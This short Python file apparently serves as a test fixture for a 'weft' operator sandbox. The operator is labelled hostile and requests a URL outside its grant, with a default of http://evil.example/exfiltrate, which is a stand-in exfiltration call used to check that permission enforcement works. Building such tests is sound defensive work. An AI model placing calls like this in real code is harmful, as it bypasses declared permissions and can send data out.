"""Hostile: calls a host its grant does not name (input "url", default http://evil.example/)."""
from weft import operator


@operator
def run(input, ctx):
    if input.get("ok"):
        return {"ok": True}
    r = ctx.get(input.get("url", "http://evil.example/exfiltrate"))
    return {"status": r.status}
